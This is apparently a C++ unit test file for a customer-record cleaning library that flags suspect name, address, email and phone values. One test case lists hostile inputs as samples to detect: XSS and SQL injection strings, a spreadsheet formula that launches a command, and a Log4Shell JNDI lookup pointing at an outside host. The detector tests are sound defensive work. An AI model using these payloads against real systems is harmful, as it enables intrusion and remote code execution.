#include <doctest/doctest.h>

#include <string>
#include <vector>

#include "standardize/suspects.h"

using namespace jumelles;
using namespace jumelles::standardize;

namespace {
using T = AttributeType;

struct Told { T type; const char* written; const char* becomes; };

void check(const char* id, const std::vector<Told>& values) {
  for (const Told& value : values) {
    CAPTURE(value.written);
    const Suspicion found = suspect(value.type, value.written);
    CHECK(found.id == id);
    CHECK(found.suggestion == value.becomes);
  }
}
void check_innocent(const char* id, T type, const std::vector<const char*>& values) {
  for (const char* value : values) {
    CAPTURE(value);
    CHECK(suspect(type, value).id != id);
  }
}
}  // namespace

TEST_CASE("what a program wrote around a value is taken off it") {
  check("left_over", {{T::kStreet, "Bâtiment B<br />12 rue Pasteur", "Bâtiment B, 12 rue Pasteur"}, {T::kStreet, "Bâtiment B\\n12 rue Pasteur", "Bâtiment B, 12 rue Pasteur"},
                      {T::kStreet, "2+All%C3%A9e+des+Tilleuls", "2 Allée des Tilleuls"}, {T::kStreet, "12%20Place%20de%20la%20Gare", "12 Place de la Gare"}, {T::kGivenName, "Ren\\u00e9e", "Renée"},
                      {T::kCity, "L\\'Isle", "L'Isle"}, {T::kCity, "L\\\\\\'Isle", "L'Isle"}, {T::kGivenName, "['Mathieu']", "Mathieu"}, {T::kCity, "[\"Lyon\"]", "Lyon"}, {T::kCity, "{\"value\":\"Lyon\"}", "Lyon"},
                      {T::kEmail, "a:1:{i:0;s:12:\"anne@free.fr\";}", "anne@free.fr"}, {T::kEmail, "(anne@free.fr,)", "anne@free.fr"}, {T::kPostcode, "'27200", "27200"}, {T::kPhone, "=\"0612121314\"", "0612121314"},
                      {T::kEmail, "mailto:anne@free.fr", "anne@free.fr"}, {T::kEmail, "Anne Petit <anne@free.fr>", "anne@free.fr"}, {T::kEmail, "[anne@free.fr](mailto:anne@free.fr)", "anne@free.fr"},
                      {T::kEmail, "www.anne@free.fr", "anne@free.fr"}, {T::kEmail, "http://anne@free.fr", "anne@free.fr"}, {T::kEmail, "anne@free.fr;", "anne@free.fr"}, {T::kGivenName, "alan,", "alan"}, {T::kCity, "\"Lyon", "Lyon"}});
  check_innocent("left_over", T::kSurname, {"'t Hart", "O'Neill", "L'Hermite", "Dupont (Martin)", "d'Arc"});
  check_innocent("left_over", T::kStreet, {"12 rue de l'Église", "Rue A + B", "5 % de pente", "12/14 rue Pasteur", "Apt [3]"});
  check_innocent("left_over", T::kEmail, {"anne+shop@free.fr", "anne.petit@free.fr", "o'neill@free.fr", "a@x.fr;b@x.fr"});
  check_innocent("left_over", T::kCompanyName, {"A+B Conseil", "100% Beauté", "[Re]Source", "\"Le Petit\" SARL"});
}

TEST_CASE("variables that nobody filled in and code are no values") {
  check("unfilled_variable", {{T::kSurname, "%NOM%", ""}, {T::kStreet, "{{ customer.address }}", ""}, {T::kCity, "${city}", ""}, {T::kCity, "[[city]]", ""}, {T::kSurname, "*|LNAME|*", ""}, {T::kEmail, "{email}", ""}, {T::kCity, "<%= city %>", ""}});
  check("injection", {{T::kSurname, "<script>alert(1)</script>", ""}, {T::kSurname, "' OR '1'='1", ""}, {T::kStreet, "=1+1", ""}, {T::kSurname, "admin'--", ""}, {T::kSurname, "${jndi:ldap://x.tk/a}", ""},
                      {T::kGivenName, "@SUM(1+1)*cmd|' /C calc'!A0", ""}, {T::kGivenName, "\"><img src=x onerror=alert(1)>", ""}});
  check("swallowed_fields", {{T::kStreet, "34 Rue de la Forêt\";\"57175\";\"GANDRANGE\"", "34 Rue de la Forêt"}, {T::kStreet, "16 Avenue Carnot\",\"75017\",\"Paris\"", "16 Avenue Carnot"}});
  check_innocent("unfilled_variable", T::kCompanyName, {"100%", "A{B}", "$mart"});
  check_innocent("injection", T::kCompanyName, {"= Formation", "Union Select Coiffure", "@Home"});
}

TEST_CASE("numbers of cards and of social security, digests and masks are told, and other numbers left alone") {
  check("card_number", {{T::kPhone, "4970004289515819", ""}, {T::kStreet, "13 avenue des Peupliers CB 4970 0042 8951 5819", "13 avenue des Peupliers"}});
  check("social_security_number", {{T::kCompanyName, "180067829821990", ""}, {T::kStreet, "13 avenue des Peupliers SS 1 80 06 78 298 219 90", "13 avenue des Peupliers"}});
  check("hidden_value", {{T::kEmail, "d***@gmail.com", ""}, {T::kPhone, "06******78", ""}, {T::kIban, "FR76XXXXXXXXXXXXXXXXXXX1234", ""}, {T::kSurname, "d41d8cd98f00b204e9800998ecf8427e", ""}, {T::kEmail, "da39a3ee5e6b4b0d3255bfef95601890afd80709", ""}});
  check("specimen_number", {{T::kIban, "FR76 3000 6000 0112 3456 7890 189", ""}, {T::kIban, "de89370400440532013000", ""}});
  // A digit further, neither holds; a SIRET, a code, a bar code are others.
  check_innocent("card_number", T::kPhone, {"4970004289515810", "06 12 34 56 78 / 06 12 34 56 79"});
  check_innocent("card_number", T::kCode, {"4970004289515819"});
  check_innocent("social_security_number", T::kCompanyName, {"180067829821991", "181367829821990", "34440"});
  check_innocent("hidden_value", T::kSurname, {"*** Martin", "Deadbeef", "abcdefabcdefabcdefabcdefabcdefab"});
  check_innocent("hidden_value", T::kCompanyName, {"XXXX 2000", "Club ***"});
  check_innocent("specimen_number", T::kIban, {"FR7630004000031234567890143"});
}

TEST_CASE("letters of another code page, another case, or by chance") {
  check("other_code_page", {{T::kStreet, "4 Place C‚zanne", "4 Place Cézanne"}, {T::kGivenName, "RenŽ", "René"}, {T::kStreet, "32 Place de la RŽpublique", "32 Place de la République"}, {T::kStreet, "22 Rue des ƒcoles", "22 Rue des Écoles"},
                            {T::kStreet, "3 rue du Chƒteau", "3 rue du Château"}, {T::kCity, "Saint-Pierre-LŠs-Nemours", "Saint-Pierre-Lès-Nemours"}, {T::kGivenName, "No‰l", "Noël"}});
  check("broken_case", {{T::kCity, "lAVAL", "Laval"}, {T::kCity, "sAINT-bONNET-EN-cHAMPSAUR", "Saint-Bonnet-en-Champsaur"}, {T::kCity, "COURRIéRES", "COURRIÉRES"}, {T::kSurname, "dUPONT", "Dupont"}});
  check("random_letters", {{T::kGivenName, "bTqXzLkWmA", ""}, {T::kSurname, "xKjTrvWqZn", ""}});
  check("advertisement", {{T::kGivenName, "You won - bit.ly/3xQz", ""}, {T::kSurname, "https://t.ly/aa", ""}, {T::kSurname, "Cheap links seo-top.ru", ""}, {T::kGivenName, "🎁 gift", ""}});
  check_innocent("other_code_page", T::kSurname, {"Šimek", "Žižka", "Kožul", "Œuvrard", "Lefèvre", "Côté"});
  check_innocent("other_code_page", T::kStreet, {"12 rue “Pasteur”", "Résidence Côté Parc", "Paris–Lyon", "Bâtiment B • 3e étage"});
  check_innocent("broken_case", T::kSurname, {"d'ARTAGNAN", "de GAULLE", "McDONALD", "DUPONT", "van DYK", "LEFÈVRE", "Lefèvre", "l'ISLE"});
  check_innocent("random_letters", T::kSurname, {"McDonald", "DeLaCruz", "Schwartzmann", "MacArthur", "LeRoyDuPré", "Nietzsche"});
  check_innocent("advertisement", T::kSurname, {"St. John", "J.P. Martin", "Dr.Martin", "D. Fr"});
}

TEST_CASE("words beside a value that are not of it") {
  check("judgment", {{T::kStreet, "22 route Voltaire MAUVAIS PAYEUR", "22 route Voltaire"}, {T::kSurname, "Ramloseau (pénible)", "Ramloseau"}, {T::kSurname, "Martin - ATTENTION ARNAQUEUR", "Martin"}, {T::kSurname, "Sanfanier client à éviter", "Sanfanier"}});
  check("access_code", {{T::kStreet, "23 allée de la Grange digicode : 74A38", "23 allée de la Grange"}, {T::kStreet, "172 rue des Érables (interphone LÉLEVARD)", "172 rue des Érables"}, {T::kStreet, "6 rue Foch code 12B44", "6 rue Foch"}, {T::kStreet, "6 rue Foch sonner chez Paul", "6 rue Foch"}});
  check("note_in_value", {{T::kStreet, "PND - 36 avenue Jean Jaurès", "36 avenue Jean Jaurès"}, {T::kStreet, "33 rue Thiers RETOUR POSTE 03/24", "33 rue Thiers"}, {T::kStreet, "5 rue Foch (n'habite plus)", "5 rue Foch"}, {T::kSurname, "SUCCESSION Leger", "Leger"}, {T::kSurname, "Feu BARON", "BARON"},
                          {T::kEmail, "anne@free.fr (HS)", "anne@free.fr"}, {T::kEmail, "STOP anne@free.fr", "anne@free.fr"}, {T::kEmail, "HB-anne@free.fr", "anne@free.fr"}, {T::kEmail, "ne pas utiliser anne@free.fr", "anne@free.fr"}, {T::kPhone, "06 12 13 14 16 faux n°", "06 12 13 14 16"}, {T::kPhone, "demander Julie 06 12 13 14 16", "06 12 13 14 16"},
                          {T::kPhone, "0612131416 (après 18h)", "0612131416"}, {T::kStreet, "12 rue Foch 06 12 13 14 16", "12 rue Foch"}, {T::kCompanyName, "Roy SARL Tél. 0612131416", "Roy SARL"}, {T::kStreet, "12 rue Foch anne@free.fr", "12 rue Foch"}, {T::kCity, "Lyon NPAI", "Lyon"}});
  check("retired_value", {{T::kSurname, "ZZZRoche", "Roche"}, {T::kSurname, "ZZ_Pellegrin", "Pellegrin"}, {T::kSurname, "*** Martin", "Martin"}, {T::kSurname, "#Martin", "Martin"}, {T::kSurname, "xxHALCANECxx", "HALCANEC"}, {T::kSurname, "OLD Petit", "Petit"},
                          {T::kSurname, "Petit (ancien)", "Petit"}, {T::kCompanyName, "Boulangerie Roy - A SUPPRIMER", "Boulangerie Roy"}, {T::kEmail, "anne.deleted.1568874561@free.fr", ""}, {T::kEmail, "archive-1568874561-anne@free.fr", ""}, {T::kEmail, "anne@free.fr_old", ""}});
  check("number_in_name", {{T::kCompanyName, "Naudet et Fils SAS 844302521", "Naudet et Fils SAS"}, {T::kCompanyName, "Naudet SAS - RCS LYON 844302521", "Naudet SAS"}});
  check("said_twice", {{T::kStreet, "38 place Jean Moulin - 38 place Jean Moulin", "38 place Jean Moulin"}, {T::kStreet, "102 rue Pasteur 102 rue Pasteur", "102 rue Pasteur"}, {T::kSurname, "Dupont Dupont", "Dupont"}});
  check_innocent("said_twice", T::kCity, {"Baden Baden"});
  check_innocent("said_twice", T::kSurname, {"Hughes-Hughes"});
  check("said_twice", {{T::kFullName, "Jean Martin Jean Martin", "Jean Martin"}});
  check_innocent("said_twice", T::kFullName, {"Martin Martin", "william william"});
  check_innocent("note_in_value", T::kPhone, {"06 12 13 14 16 poste 214", "Tél : 06 12 13 14 16", "06 12 13 14 16 (bureau)", "maman"});
  check_innocent("note_in_value", T::kStreet, {"12 rue du 0800", "BP 1012345678", "12 rue Foch 33000 Bordeaux"});
  for (const char* id : {"judgment", "note_in_value", "retired_value"})
    check_innocent(id, T::kSurname, {"Voleur", "Penible", "Feu", "Succession", "Zzaoui", "Xaxax", "Raleur", "Feu-Martin", "Martin", "Ancien", "Old", "Conan", "Zz"});
  for (const char* id : {"judgment", "access_code", "note_in_value", "said_twice"})
    check_innocent(id, T::kStreet, {"12 rue du Code Civil", "3 place de la Folle", "5 impasse du Voleur", "Rue de la Clé", "Rue des Interprètes", "12 rue Pasteur 12 bis rue Pasteur", "Baden Baden"});
  check_innocent("number_in_name", T::kCompanyName, {"Studio 54", "Pharmacie 2000", "Martin 844302522", "RCS Racing"});
  check_innocent("note_in_value", T::kEmail, {"jean paul@free.fr", "hb-martin@free.fr", "marie.p@ free.fr", "stop@free.fr", "a@x.fr b@x.fr"});
  check_innocent("retired_value", T::kEmail, {"jean.old@free.fr", "archives-75@mairie.fr", "goldman@free.fr", "bold@free.fr"});
}

TEST_CASE("words that stand in the place of a street, a company or a customer") {
  check("no_street", {{T::kStreet, "Poste restante", ""}, {T::kStreet, "en face de la mairie", ""}, {T::kStreet, "même adresse", ""}, {T::kStreet, "rue", ""}, {T::kStreet, "SDF", ""}, {T::kStreet, "voir facture", ""}, {T::kStreet, "chez un ami", ""},
                      {T::kStreet, "POINT RELAIS n°57698 SUPERETTE VIVAL", ""}, {T::kStreet, "Relais Colis Tabac de la Gare", ""}, {T::kStreet, "Mondial Relay 24", ""}});
  check("no_company", {{T::kCompanyName, "Ets", ""}, {T::kCompanyName, "S.A.", ""}, {T::kCompanyName, "auto-entrepreneur", ""}, {T::kCompanyName, "particulier", ""}, {T::kCompanyName, "sans emploi", ""}});
  check("collective_account", {{T::kSurname, "CLIENT CAISSE", ""}, {T::kSurname, "Clients Internet", ""}, {T::kCompanyName, "VENTE AU DETAIL", ""}, {T::kSurname, "Cash customer", ""}});
  check("erased_value", {{T::kSurname, "DROIT A L'OUBLI", ""}, {T::kSurname, "RGPD", ""}, {T::kSurname, "effacé", ""}, {T::kEmail, "anonyme123@rgpd.local", ""}});
  check_innocent("no_street", T::kStreet, {"Le Bourg", "Rue du Relais", "12 rue du Point du Jour", "Lieu-dit Derrière-le-Pré", "La Poste", "3 face à la gare", "Place de la Mairie", "Chemin du Colis"});
  check_innocent("no_company", T::kCompanyName, {"Société Générale", "SA Dupont", "Association Sportive", "Maison Martin", "Moi Je"});
  check_innocent("collective_account", T::kSurname, {"Le Compte", "De Sales", "Client", "Divers", "Compte Martin", "Magasin"});
  check_innocent("erased_value", T::kSurname, {"Client", "Droit", "Nom", "Anonymus Martin"});
}

TEST_CASE("mailboxes that reach no customer") {
  check("role_mailbox", {{T::kEmail, "noreply@boutique.fr", ""}, {T::kEmail, "abuse@orange.fr", ""}, {T::kEmail, "webmaster@gmail.com", ""}, {T::kEmail, "Info@gmail.com", ""}});
  check("relay_mailbox", {{T::kEmail, "x1y2z3@marketplace.amazon.fr", ""}, {T::kEmail, "abc@members.ebay.com", ""}, {T::kEmail, "abc@notification.mirakl.net", ""}, {T::kEmail, "q4w5@privaterelay.appleid.com", ""}, {T::kEmail, "NOSEND-AB12@ebay.fr", ""}});
  check("reserved_domain", {{T::kEmail, "anne@free.fr.test", ""}, {T::kEmail, "anne@free.fr.invalid", ""}, {T::kEmail, "anne@poste.example", ""}});
  check_innocent("role_mailbox", T::kEmail, {"contact@boulangerie-roy.fr", "info@mairie.fr", "supporter@gmail.com", "informatique@gmail.com"});
  check_innocent("relay_mailbox", T::kEmail, {"anne@amazon.fr", "anne@ebay.fr", "anne@mirakl.com"});
  check_innocent("reserved_domain", T::kEmail, {"anne@test.fr", "anne@example.fr", "anne@local.com"});
}

TEST_CASE("phones of films ring nowhere") {
  check("fiction_phone", {{T::kPhone, "01 99 00 12 34", ""}, {T::kPhone, "+33 6 39 98 12 34", ""}, {T::kPhone, "0033 2 61 91 12 34", ""}, {T::kPhone, "0353011234", ""}, {T::kPhone, "04 65 71 12 34", ""}, {T::kPhone, "05 36 49 12 34", ""}, {T::kPhone, "+1 212 555 0185", ""}});
  check_innocent("fiction_phone", T::kPhone, {"06 39 97 12 34", "01 99 01 12 34", "02 61 92 12 34", "+1 212 555 0285", "+1 212 556 0185", "+49 6399812"});
}
